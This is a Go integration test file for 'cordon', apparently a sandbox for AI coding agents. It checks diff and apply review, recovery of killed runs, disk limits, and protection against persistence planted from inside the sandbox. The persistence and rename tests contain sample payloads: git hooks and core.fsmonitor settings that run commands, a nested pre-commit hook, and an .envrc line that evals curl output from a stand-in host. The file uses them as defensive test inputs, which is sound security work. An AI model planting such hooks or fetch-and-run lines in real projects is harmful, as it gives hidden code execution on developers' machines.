//go:build linux

package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/cordon-sandbox/cordon/internal/syncbuf"
)

// The workspace tests drive the whole cycle through the real binary: an agent edits inside a real
// sandbox, the project stays untouched, and the review commands carry (or refuse) the changes.

var runIDRE = regexp.MustCompile(`cordon diff (\d{8}-\d{6}-[0-9a-f]{8}) \(`)

// gitProject makes the harness's project a git repository with one commit.
func gitProject(t *testing.T, h *harness) {
	t.Helper()
	requireTool(t, "git")
	h.writeFile(filepath.Join(h.ws, "main.go"), "package main\n", 0o644)
	h.writeFile(filepath.Join(h.ws, "old.txt"), "old\n", 0o644)
	r := run(t, h.command([]string{"GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t"},
		"sh", "-ec", "git init -q -b main . && git add -A && git commit -qm init"), "")
	if r.code != 0 {
		t.Fatalf("git init: %s", r)
	}
}

// snapshot describes every file of dir (path, mode, content) for byte-for-byte comparisons.
func snapshot(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		b.WriteString(rel + " " + fi.Mode().String())
		switch {
		case fi.Mode().IsRegular():
			data, _ := os.ReadFile(p)
			b.WriteString(" " + string(data))
		case fi.Mode()&os.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			b.WriteString(" -> " + target)
		}
		b.WriteString("\n")
		return nil
	})
	return b.String()
}

func runID(t *testing.T, r result) string {
	t.Helper()
	m := runIDRE.FindStringSubmatch(r.stderr)
	if m == nil {
		t.Fatalf("no run id in cordon's output:\n%s", r)
	}
	return m[1]
}

func TestWorkspaceReviewCycle(t *testing.T) {
	forEachTier(t, func(t *testing.T, h *harness) {
		gitProject(t, h)
		before := snapshot(t, h.ws)
		r := h.sandboxed("", `echo edited >> main.go && rm old.txt && mkdir -p pkg && echo new > pkg/new.txt && ln -s main.go link && chmod 600 main.go`)
		if r.code != 0 {
			t.Fatalf("agent run: %s", r)
		}
		id := runID(t, r)
		if after := snapshot(t, h.ws); after != before {
			t.Fatalf("the project changed before apply:\nbefore:\n%s\nafter:\n%s", before, after)
		}
		if r := h.cordon(nil, "", "runs"); !strings.Contains(r.stdout, id) || !strings.Contains(r.stdout, "exited(0)") {
			t.Fatalf("runs does not list the run:\n%s", r)
		}
		d := h.cordon(nil, "", "diff", id)
		for _, want := range []string{"+edited", "deleted file mode", "b/pkg/new.txt", "new file mode 120000"} {
			if !strings.Contains(d.stdout, want) {
				t.Errorf("diff lacks %q:\n%s", want, d.stdout)
			}
		}
		if r := h.cordon(nil, "", "apply", id); r.code != 0 {
			t.Fatalf("apply: %s", r)
		}
		if b, _ := os.ReadFile(filepath.Join(h.ws, "main.go")); string(b) != "package main\nedited\n" {
			t.Errorf("main.go after apply: %q", b)
		}
		if _, err := os.Stat(filepath.Join(h.ws, "old.txt")); err == nil {
			t.Error("old.txt survived apply")
		}
		if target, err := os.Readlink(filepath.Join(h.ws, "link")); err != nil || target != "main.go" {
			t.Errorf("symlink after apply: %q %v", target, err)
		}
		if fi, err := os.Stat(filepath.Join(h.ws, "main.go")); err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("mode after apply: %v %v", fi.Mode(), err)
		}
	})
}

// TestPersistenceGuardThroughSandbox plants host persistence from inside and checks that apply
// refuses it until --include-risky. .git/hooks is read-only inside, so the agent uses a nested repo.
func TestPersistenceGuardThroughSandbox(t *testing.T) {
	forEachTier(t, func(t *testing.T, h *harness) {
		gitProject(t, h)
		r := h.sandboxed("", `echo 'touch /tmp/pwned' > .git/hooks/post-checkout 2>/dev/null && echo HOOK-WRITABLE
git config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null && echo CONFIG-WRITABLE
echo 'eval "$(curl evil)"' > .envrc
mkdir -p .vscode && echo '{"tasks":[]}' > .vscode/tasks.json
mkdir sub && cd sub && git init -q . && printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
true`)
		if strings.Contains(r.stdout, "HOOK-WRITABLE") || strings.Contains(r.stdout, "CONFIG-WRITABLE") {
			t.Fatalf(".git/hooks or .git/config was writable inside:\n%s", r)
		}
		id := runID(t, r)
		a := h.cordon(nil, "", "apply", id)
		if a.code == 0 {
			t.Fatalf("apply carried planted persistence without --include-risky:\n%s", a)
		}
		for _, want := range []string{".envrc", ".vscode/tasks.json", "sub/.git/hooks/pre-commit"} {
			if !strings.Contains(a.stderr, want) {
				t.Errorf("apply's refusal does not name %s:\n%s", want, a.stderr)
			}
		}
		if _, err := os.Stat(filepath.Join(h.ws, ".envrc")); err == nil {
			t.Fatal("a refused apply wrote .envrc")
		}
		if a := h.cordon(nil, "", "apply", "--include-risky", id); a.code != 0 {
			t.Fatalf("apply --include-risky: %s", a)
		}
		if _, err := os.Stat(filepath.Join(h.ws, ".envrc")); err != nil {
			t.Fatal("--include-risky did not carry .envrc, so the refusal above proves nothing")
		}
	})
}

// TestReadOnlyPathsSurviveRename replaces .git/config and .git/hooks by renaming over and away
// from them, which writing into them cannot do. The native box refuses a rename of or onto a mount
// point (EBUSY); under gVisor the host kernel would not (the Sentry is outside the mount's
// namespace), so the tier makes each read-only path a mount of gVisor's own. The host's record is
// the run's diff: it must not carry either. The control runs the same script on a plain copy.
func TestReadOnlyPathsSurviveRename(t *testing.T) {
	script := `printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' > .git/cfg.new
mv -f .git/cfg.new .git/config && echo CONFIG-REPLACED
mv .git/hooks .git/hooks-away 2>/dev/null && mkdir .git/hooks && printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/post-checkout && echo HOOKS-REPLACED
true`
	forEachTier(t, func(t *testing.T, h *harness) {
		gitProject(t, h)
		if r := h.plain(script); !strings.Contains(r.stdout, "CONFIG-REPLACED") || !strings.Contains(r.stdout, "HOOKS-REPLACED") {
			t.Fatalf("control: the renames do not work without a sandbox, so the test proves nothing:\n%s", r)
		}
		// The control changed the project itself: start again from a fresh repository.
		os.RemoveAll(filepath.Join(h.ws, ".git"))
		gitProject(t, h)
		r := h.sandboxed("", script+"\necho changed > old.txt")
		if strings.Contains(r.stdout, "REPLACED") {
			t.Errorf("a read-only path was replaced from inside:\n%s", r)
		}
		d := h.cordon(nil, "", "diff", runID(t, r))
		if strings.Contains(d.stdout, "b/.git/config") || strings.Contains(d.stdout, "b/.git/hooks/") {
			t.Errorf("the run's changes carry .git/config or .git/hooks:\n%s", d.stdout)
		}
		if !strings.Contains(d.stdout, "old.txt") {
			t.Errorf("the run's diff lacks the change it did make, so it proves nothing:\n%s", d)
		}
	})
}

// TestKilledRunRecoverable: cordon is SIGKILLed mid-run; the run is listed as interrupted and its
// work can still be diffed and applied.
func TestKilledRunRecoverable(t *testing.T) {
	forEachTier(t, func(t *testing.T, h *harness) {
		gitProject(t, h)
		cmd := h.command(nil, cordonBin, h.tierArgs([]string{"run", "--policy", h.policy(""), "--", "sh", "-c", "echo precious > work.txt; sync; echo ready; sleep 600"})...)
		var out syncbuf.Buffer
		cmd.Stdout = &out
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 1500 && !strings.Contains(out.String(), "ready"); i++ { // up to 30 s: a loaded machine starts slowly
			time.Sleep(20 * time.Millisecond)
		}
		cmd.Process.Kill()
		cmd.Wait()
		r := h.cordon(nil, "", "runs")
		var id string
		for _, line := range strings.Split(r.stdout, "\n") {
			if strings.Contains(line, "interrupted") && strings.Contains(line, h.ws) {
				id = strings.Fields(line)[0]
			}
		}
		if id == "" {
			t.Fatalf("the killed run is not listed as interrupted:\n%s", r)
		}
		if d := h.cordon(nil, "", "diff", id); !strings.Contains(d.stdout, "+precious") {
			t.Fatalf("diff of the interrupted run:\n%s", d)
		}
		if a := h.cordon(nil, "", "apply", id); a.code != 0 {
			t.Fatalf("apply of the interrupted run: %s", a)
		}
		if b, _ := os.ReadFile(filepath.Join(h.ws, "work.txt")); string(b) != "precious\n" {
			t.Fatalf("work.txt after apply: %q", b)
		}
	})
}

// TestDiskLimit: limits.disk gives the agent ENOSPC instead of filling the host (root only: it needs
// a loop device).
func TestDiskLimit(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("limits.disk is enforced as root only (a loop-mounted image)")
	}
	if _, err := exec.LookPath("mkfs.ext4"); err != nil {
		t.Skip("mkfs.ext4 not installed")
	}
	for _, tier := range tiers {
		t.Run(tier, func(t *testing.T) {
			h := newHarness(t, identities(t)[0])
			if tier == "gvisor" {
				h.useGVisor(t)
			}
			r := h.sandboxed("limits:\n  disk: 16MiB\n", "dd if=/dev/zero of=big bs=1M count=64 2>&1; ls -la big")
			if !strings.Contains(r.stdout, "No space left on device") {
				t.Fatalf("the disk limit did not hold:\n%s", r)
			}
			// Control: the same write without a limit succeeds.
			if r := h.sandboxed("", "dd if=/dev/zero of=big bs=1M count=64 2>&1"); strings.Contains(r.stdout, "No space left") || r.code != 0 {
				t.Fatalf("control: %s", r)
			}
		})
	}
}
